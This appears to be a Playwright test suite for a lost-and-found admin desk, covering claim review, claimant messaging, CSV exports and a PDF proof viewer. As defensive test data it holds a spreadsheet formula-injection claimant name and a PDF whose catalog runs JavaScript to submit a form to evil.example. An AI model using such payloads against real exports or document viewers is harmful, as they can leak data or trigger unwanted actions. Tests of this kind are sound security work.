import type { Locator } from '@playwright/test';
import { Claimant } from '../../../support/clients.ts';
import type { Desk } from '../../../support/desk.ts';
import { pdf, photo, receipt, type UploadFile } from '../../../support/evidence.ts';
import { bodyOf, claim, reportFound } from '../../../support/http.ts';
import type { Service } from '../../../support/service.ts';
import { expect, own, test } from '../../../support/test.ts';

test('§2 §8 Claim Requests: proof, competing claims, rejected with a reason, approved, and on to the next @phone', async ({
  desk,
  service,
}) => {
  const { page } = desk;
  const title = own('Saxophone');
  const sax = await reportFound(service, `${title} in brass`);
  const other = await reportFound(service, `${title} in silver`);
  await claim(service, other, 'Cleo Later');
  await claim(service, sax, 'Bela Right', { phone: '+34 600 000 000' }, [await photo(), receipt()]);
  await claim(service, sax, 'Arno Wrong');

  await desk.open('/admin/claims', 'Claim Requests', title);
  await expect(page.getByText('Showing 1 to 3 of 3 results')).toBeVisible();
  await expect(desk.row('Bela Right')).toContainText('2 files');
  await desk.press(`Review: ${title} in brass, Arno Wrong`);
  const details = page.getByRole('dialog').first();
  await expect(details).toContainText('Not provided');
  const compared = details.getByRole('region', { name: 'Claims on this item, side by side' });
  for (const words of ['Found beside the lockers', 'It is mine: Arno Wrong', 'It is mine: Bela Right'])
    await expect(compared).toContainText(words);

  await desk.press('Reject Claim', details);
  const question = page.getByRole('alertdialog', { name: 'Reject this claim?' });
  await question.getByLabel('Reason').fill('The serial number is another one.');
  await desk.press('Reject Claim', question);
  await expect(desk.toast('Claim rejected')).toBeVisible();

  await expect(details, 'the next that waits').toContainText('+34 600 000 000');
  await desk.press('View umbrella.jpg', details.getByRole('region', { name: 'Proof files (2 files)' }));
  const viewer = page.getByRole('dialog', { name: 'umbrella.jpg' });
  const picture = viewer.getByRole('img', { name: 'umbrella.jpg' });
  await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
  await desk.press('Next', viewer);
  await expect(page.getByRole('dialog', { name: 'receipt.pdf' })).toBeVisible();
  await page.keyboard.press('Escape');
  await details.getByLabel('Reason').fill('Please bring your student card.');
  await desk.press('Approve Claim', details);
  await expect(desk.toast('Claim approved and item marked as claimed')).toBeVisible();
  await expect(details).toContainText('Cleo Later');
  await expect(details.getByLabel('Reason'), 'each claim has its own').toHaveValue('');
  await page.keyboard.press('Escape');
  // A message stays over a phone's list for as long as the pointer rests on it.
  await page.mouse.move(0, 0);

  await desk.choose('Status', 'Rejected');
  await desk.expectAddress({ search: title, status: 'rejected' });
  await expect(desk.row('Arno Wrong')).toContainText('Rejected');
  await desk.press(`View: ${title} in brass, Arno Wrong`);
  await expect(details).toContainText('The serial number is another one.');
  await expect(details).toContainText('Claim rejected by administrator');
  await expect(details.getByRole('button', { name: /^(Approve|Reject) Claim$/ })).toHaveCount(0);
  await page.keyboard.press('Escape');
  await desk.choose('Status', 'Approved');
  await desk.press(`View: ${title} in brass, Bela Right`);
  const decision = details.getByRole('region', { name: 'Decision' });
  await expect(decision).toContainText('Approved by administrator');
  await expect(decision).toContainText('Please bring your student card.');
});

test('§3 Claim Requests: the desk asks, the claimant answers, and the answer is flagged until it is read @phone', async ({
  desk,
  service,
}) => {
  const { page } = desk;
  const title = own('Mandolin');
  const id = await reportFound(service, title);
  const { caseUrl } = await claim(service, id, 'Manon Dolin');
  await page.clock.install();
  await desk.open('/admin/claims', 'Claim Requests', title);
  await desk.press(`Review: ${title}, Manon Dolin`);
  const conversation = page
    .getByRole('dialog', { name: title })
    .getByRole('region', { name: 'Conversation with the claimant' });
  await expect(conversation.getByText('No messages yet.')).toBeVisible();
  await conversation.getByLabel('Message to the claimant').fill('How many strings does it have?');
  await desk.press('Send Message', conversation);
  await expect(desk.toast('Message sent')).toBeVisible();
  const log = conversation.getByRole('log');
  await expect(log).toContainText('lost-and-found desk');
  await expect(log).toContainText('How many strings does it have?');
  await expect(conversation.getByLabel('Message to the claimant')).toHaveValue('');
  await page.keyboard.press('Escape');
  await expect(conversation, 'what is not on the screen is not read').toHaveCount(0);

  const claimant = await Claimant.open(service, caseUrl);
  await claimant.write('Eight, one of them is new.');
  await page.clock.fastForward(20_000);
  await expect(desk.row('Manon Dolin')).toContainText('1 new message');
  await desk.press(`Review: ${title}, Manon Dolin`);
  await expect(log.getByRole('listitem')).toHaveCount(2);
  await expect(log.getByRole('listitem').last()).toContainText('Eight, one of them is new.');

  await claimant.write('I can show a photo of it.');
  await page.clock.fastForward(20_000);
  await expect(log.getByRole('listitem').last(), 'while it is open').toContainText('show a photo');
  await page.keyboard.press('Escape');
  await expect(conversation).toHaveCount(0);
  await page.clock.fastForward(20_000);
  await expect(desk.row('Manon Dolin')).not.toContainText('new message');
});

test('§2 §9 Claimed Items: timeline, Export Record, Export CSV; no cell is a formula', async ({
  desk,
  service,
  admin,
}) => {
  const { page } = desk;
  const title = own('Bassoon');
  const id = await reportFound(service, title);
  const { id: claimId } = await claim(service, id, '=HYPERLINK("https://evil.example")');
  await bodyOf(await admin.post(`/claims/${claimId}/approve`), 200);
  const byHand = await reportFound(service, `${title} reed`);
  await bodyOf(await admin.post(`/items/${byHand}/mark-claimed`), 200);

  await desk.open('/admin/claimed', 'Claimed Items', title);
  await expect(page.getByText('Showing 1 to 2 of 2 results')).toBeVisible();
  await expect(desk.row(`${title} reed`)).toContainText('Marked by hand, no claimant');
  const list = await desk.save(page.getByRole('button', { name: 'Export CSV' }));
  expect(list.name).toMatch(/^claimed-items-\d{4}-\d{2}-\d{2}\.csv$/);
  const [header, ...lines] = list.text.replace('\uFEFF', '').trim().split('\r\n');
  expect(header).toMatch(
    /^ID,Title,Category,Location,Description,Status,Date Found,Date Claimed \([^)]+\),Claimant Name,Claimant Email,Claimant Phone,Student ID,Reporter Contact$/,
  );
  expect(lines.map((line) => line.split(',')[0]).sort(), 'what the search leaves').toEqual(
    [id, byHand].sort(),
  );
  const harmless = `"'=HYPERLINK(""https://evil.example"")"`;
  expect(list.text).toContain(harmless);

  await desk.press(`View: ${title}`);
  const record = page.getByRole('dialog', { name: title });
  const timeline = record.getByRole('region', { name: 'Timeline' });
  await expect(timeline.getByRole('listitem')).toHaveText([/^Item Found.*2026/, /^Item Claimed.*\d/]);
  await expect(record).toContainText('finder@campus.example');
  const saved = await desk.save(record.getByRole('button', { name: 'Export Record' }));
  expect(saved.name).toBe(`claimed-item-${id}.csv`);
  expect(saved.text.trim().split('\r\n')).toHaveLength(2);
  expect(saved.text).toContain(harmless);
  await record.getByRole('link', { name: 'See the claim' }).click();
  await expect(page).toHaveURL(`${service.url}/admin/claims?claim=${claimId}`);

  await desk.open('/admin/claimed', 'Claimed Items', 'nothing like it');
  await expect(page.getByRole('heading', { name: 'No claimed items found' })).toBeVisible();
});

/** Opens a claim that came with these files, and in its modal the first of them. */
const openProof = async (
  desk: Desk,
  service: Service,
  title: string,
  proof: UploadFile[],
): Promise<Locator> => {
  const item = await reportFound(service, title);
  const { id } = await claim(service, item, 'Petra Paper', {}, proof);
  await desk.page.goto(`${service.url}/admin/claims?claim=${id}`);
  const name = proof[0]?.name ?? '';
  await desk.press(`View ${name}`);
  return desk.page.getByRole('dialog', { name });
};

/** How many pixels of a drawn page are not its paper. */
const inkOf = (page: Locator): Promise<number> =>
  page.evaluate((element) => {
    const canvas = element as HTMLCanvasElement;
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
    return data.filter((value, index) => index % 4 === 0 && value < 128).length;
  });

const document = (name: string, buffer: Buffer): UploadFile => ({
  name,
  mimeType: 'application/pdf',
  buffer,
});

test('§2 Claim Requests: a PDF is shown in place, page by page, with its text and a way to save it @phone', async ({
  desk,
  service,
}) => {
  const pages = ['Bought in Seville', 'Serial number 4711'];
  const viewer = await openProof(desk, service, own('Oboe'), [receipt('oboe.pdf', pages)]);
  const first = viewer.getByRole('img', { name: 'Page 1 of 2 of oboe.pdf, as a picture' });
  await expect(first).toBeVisible();
  expect(await inkOf(first)).toBeGreaterThan(100);
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Bought in Seville')).toBeVisible();

  await desk.press('Next page', viewer);
  await expect(viewer.getByRole('status').getByText('Page 2 of 2')).toBeVisible();
  await expect(viewer.getByRole('img', { name: 'Page 2 of 2 of oboe.pdf, as a picture' })).toBeVisible();
  await expect(viewer.getByRole('button', { name: 'Next page' })).toBeFocused();
  await viewer.getByText('Text of this page').click();
  await expect(viewer.getByText('Serial number 4711')).toBeVisible();

  const saved = await desk.save(viewer.getByRole('link', { name: 'Download oboe.pdf' }));
  expect(saved.name).toBe('oboe.pdf');
});

test('Claim Requests: a PDF that runs, calls or opens something only shows its page', async ({
  desk,
  service,
}) => {
  const asked: string[] = [];
  desk.page.on('request', (request) => asked.push(request.url()));
  desk.page.on('dialog', (dialog) => asked.push(dialog.message()));
  const catalog = `/OpenAction << /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example/"\\);) /Next << /S /URI /URI (https://evil.example/) >> >>`;
  const hostile = document('hostile.pdf', pdf({ pages: ['Only this'], catalog }));
  const viewer = await openProof(desk, service, own('Bassoon'), [hostile]);
  await expect(viewer.getByRole('img', { name: /^Page 1 of 1 of hostile\.pdf/ })).toBeVisible();
  expect(asked.filter((what) => !what.startsWith(service.url) && !what.startsWith('blob:'))).toEqual([]);
  expect(desk.page.context().pages()).toHaveLength(1);
});

test('Claim Requests: a PDF that is broken or locked says so, and the next file is a step away', async ({
  desk,
  service,
}) => {
  const key = `<${'5a'.repeat(32)}>`;
  const trailer = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >>`;
  const viewer = await openProof(desk, service, own('Piccolo'), [
    document('broken.pdf', Buffer.from(`%PDF-1.7\n${'no page here '.repeat(50)}\n%%EOF\n`)),
    document('locked.pdf', pdf({ pages: ['Secret'], trailer })),
  ]);
  await expect(viewer.getByText('This PDF cannot be shown here')).toBeVisible();
  await expect(viewer.getByRole('link', { name: 'Download broken.pdf' })).toBeVisible();
  await desk.press('Next', viewer);
  const locked = desk.page.getByRole('dialog', { name: 'locked.pdf' });
  await expect(locked.getByText('This PDF is locked with a password')).toBeVisible();
});
